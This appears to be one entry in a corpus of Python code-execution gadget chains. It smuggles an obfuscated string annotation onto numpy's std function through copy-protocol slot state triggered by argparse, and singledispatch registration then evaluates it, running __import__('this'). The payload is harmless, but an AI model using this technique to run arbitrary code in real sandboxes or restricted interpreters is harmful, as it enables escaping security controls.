# source: CPython copy._reconstruct slotstate setattr + object.__getstate__/copyreg._slotnames reading a base class's __slots__ computed at run time in its body; a __new__ choosing the copy target; functools.singledispatch.register -> typing.get_type_hints; trigger: argparse append default -> copy.copy
# family: copy protocol setattr-by-runtime-name (run-time __slots__ in a base class body, no later assignment) + annotation eval via register(module function)
# goal: imports the module this
import argparse
import functools
import numpy as np

u = chr(95) * 2


def slot_names():
    return [u + "annotations" + u]


def payload():
    return u + "import" + u + "('this')"


class Base:
    __slots__ = slot_names()


class Carrier(Base):
    x: payload()
    made = []

    def __new__(cls):
        if cls.made:
            return np.std
        cls.made.append(1)
        return super().__new__(cls)


p = argparse.ArgumentParser()
p.add_argument("--x", action="append", default=Carrier())
try:
    p.parse_args(["--x", "1"])
except AttributeError as e:
    print("after copy:", e)


@functools.singledispatch
def f(v):
    return v


try:
    f.register(np.std)
except Exception as e:
    print("register:", type(e).__name__, e)
